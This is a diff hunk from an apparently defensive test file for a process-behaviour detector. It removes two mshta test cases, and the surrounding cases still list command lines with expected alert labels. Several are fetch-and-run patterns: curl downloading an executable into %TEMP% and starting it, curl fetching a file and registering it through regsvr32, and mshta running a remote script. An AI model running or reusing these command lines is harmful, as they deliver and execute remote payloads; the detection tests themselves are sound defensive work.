@@ -220,8 +220,6 @@ def test_a_root_may_ask_for_its_parent() -> None:
         ("go", "go vet ./...", "bash", ""),
         ("agenda", "/Users/kim/Downloads/agenda ; exit;", "zsh", "macos_program_downloaded"),
         ("agenda", "/Users/kim/src/agenda", "zsh", ""),
-        ("mshta.exe", "mshta https://a.example/b", "cmd.exe", "script_mshta"),
-        ("mshta.exe", 'mshta "C:\\Program Files\\Contoso\\about.hta"', "cmd.exe", ""),
         ("cmd.exe", "cmd /c curl -o %TEMP%\\a.exe https://a.example/a.exe && start %TEMP%\\a.exe",
          "explorer.exe", "script_fetched_cmd"),
         ("cmd.exe", "cmd /c curl -o b.png https://a.example/b.png & regsvr32 /s b.png",
